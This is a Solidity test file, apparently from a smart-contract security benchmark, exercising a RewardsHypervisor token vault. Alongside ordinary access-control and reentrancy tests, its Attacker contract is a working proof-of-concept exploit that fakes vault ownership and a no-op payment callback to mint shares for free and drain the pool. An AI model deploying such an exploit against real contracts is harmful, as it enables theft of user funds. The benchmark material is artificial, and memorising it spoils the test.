// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./RewardsHypervisor.sol";

// assay-canary-62a791fc-9624-46b1-828f-422051db416e

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Visr is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 v) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += v;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 v) external {
        allowance[msg.sender][spender] = v;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= v;
        balanceOf[to] += v;
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= v;
        balanceOf[from] -= v;
        balanceOf[to] += v;
        return true;
    }
}

/// The smart vault of a user.
contract Visor is IVisor {
    address public owner;
    address internal delegate;

    constructor(address owner_, address delegate_) {
        owner = owner_;
        delegate = delegate_;
    }

    function delegatedTransferERC20(address token, address to, uint256 v) external {
        require(msg.sender == delegate, "delegate only");
        require(IERC20(token).transfer(to, v), "token");
    }
}

/// A vault that makes a second deposit while it is asked to pay for the first.
contract Eager is IVisor {
    address public owner = msg.sender;
    RewardsHypervisor internal hyper;
    Visor internal other;
    bool public again;

    constructor(RewardsHypervisor hyper_) {
        hyper = hyper_;
        other = new Visor(address(this), address(hyper_));
    }

    function delegatedTransferERC20(address token, address, uint256 v) external {
        IERC20(token).transfer(address(other), v);
        (again, ) = address(hyper).call(abi.encodeCall(hyper.deposit, (v, address(other), owner)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Visr internal visr;
    RewardsHypervisor internal hyper;
    Visor internal visor;
    Attacker internal thief;

    function setUp() public {
        visr = new Visr();
        hyper = new RewardsHypervisor(visr);
        visor = new Visor(BEN, address(hyper));
        visr.mint(ANA, 9_000_000e18);
        visr.mint(address(visor), 300_000e18);
        vm.startPrank(ANA);
        visr.approve(address(hyper), type(uint256).max);
        hyper.deposit(8_800_000e18, ANA, ANA);
        vm.stopPrank();
        thief = new Attacker(hyper);
    }

    function test_Regular() public {
        vm.prank(BEN);
        require(hyper.deposit(300_000e18, address(visor), address(visor)) == 300_000e18, "out of a vault");
        visr.mint(address(hyper), 910_000e18); // rewards
        vm.prank(BEN);
        require(hyper.withdraw(100_000e18, BEN, address(visor)) == 110_000e18 && visr.balanceOf(BEN) == 110_000e18, "with rewards");
        vm.prank(ANA);
        hyper.withdraw(800_000e18, BEN, ANA);
        require(visr.balanceOf(BEN) == 990_000e18 && hyper.totalSupply() == 8_200_000e18, "to another");
        vm.prank(ANA);
        require(hyper.deposit(110e18, ANA, BEN) == 100e18 && hyper.balanceOf(BEN) == 100e18, "for another");
        hyper.transferOwnership(ANA);
        require(hyper.owner() == ANA, "owner");

        // the least first deposit, and tokens sent there: the next depositor keeps its own
        RewardsHypervisor fresh = new RewardsHypervisor(visr);
        uint256 least = fresh.KEPT() + 1;
        visr.mint(address(fresh), 1_000e18);
        vm.startPrank(ANA);
        visr.approve(address(fresh), least);
        fresh.deposit(least, ANA, ANA);
        vm.stopPrank();
        vm.startPrank(BEN);
        visr.approve(address(fresh), 1_000e18);
        uint256 s = fresh.deposit(1_000e18, BEN, BEN);
        require(fresh.withdraw(s, BEN, BEN) >= 999e18, "a deposit keeps its worth");
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(RewardsHypervisor.Denied.selector);
        hyper.deposit(1, address(visor), address(this));
        vm.expectRevert(RewardsHypervisor.Denied.selector);
        hyper.deposit(1, ANA, address(this));
        vm.expectRevert(RewardsHypervisor.Denied.selector);
        hyper.withdraw(1, address(this), ANA);
        vm.prank(BEN);
        hyper.deposit(5, address(visor), address(visor));
        vm.expectRevert(RewardsHypervisor.Denied.selector);
        hyper.withdraw(1, address(this), address(visor));
        vm.prank(ANA);
        vm.expectRevert(RewardsHypervisor.Denied.selector);
        hyper.transferOwnership(ANA);
    }

    function test_RefusesDepositsInDeposits() public {
        Eager eager = new Eager(hyper);
        visr.mint(address(eager), 5);
        (bool ok, ) = address(hyper).call(abi.encodeCall(hyper.deposit, (5, address(eager), address(this))));
        require(!(ok && eager.again()), "one payment for two deposits");
        require(hyper.balanceOf(address(this)) <= 5, "counted twice");
    }

    function test_RefusesNothing() public {
        vm.startPrank(ANA);
        vm.expectRevert(RewardsHypervisor.Nothing.selector);
        hyper.deposit(0, ANA, ANA);
        vm.expectRevert(RewardsHypervisor.Nothing.selector);
        hyper.withdraw(0, ANA, ANA);
        vm.stopPrank();
        visr.quieten();
        vm.startPrank(ANA);
        vm.expectRevert(RewardsHypervisor.Failed.selector);
        hyper.deposit(1, ANA, ANA);
        vm.expectRevert(RewardsHypervisor.Failed.selector);
        hyper.withdraw(1, ANA, ANA);
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(visr.balanceOf(address(thief)) >= 8_700_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(visr);
    }

    function target() public view returns (address) {
        return address(hyper);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Says that it owns itself, and never pays.
contract Attacker is IVisor {
    RewardsHypervisor internal hyper;

    constructor(RewardsHypervisor hyper_) {
        hyper = hyper_;
    }

    function owner() external view returns (address) {
        return address(this);
    }

    function delegatedTransferERC20(address, address, uint256) external {}

    function run() external {
        hyper.deposit(100_000_000_000e18, address(this), address(this));
        hyper.withdraw(hyper.balanceOf(address(this)), address(this), address(this));
    }
}
